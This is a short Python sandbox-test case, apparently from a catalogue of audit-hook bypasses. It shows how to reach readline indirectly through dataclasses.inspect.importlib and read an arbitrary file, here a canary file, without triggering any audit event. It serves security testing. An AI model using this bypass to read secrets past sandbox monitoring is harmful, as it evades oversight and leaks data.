# id: readline-history-file
# family: ambient-authority
# kind: information-leak
# invariant: G
# origin: CPython report gh-115322
# technique: readline reads a file as its history without any audit event
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, seccomp
# fix: structural
# alive-when: canary

import dataclasses

readline = dataclasses.inspect.importlib.import_module("readline")
readline.read_history_file("canary.txt")
print(readline.get_history_item(1))
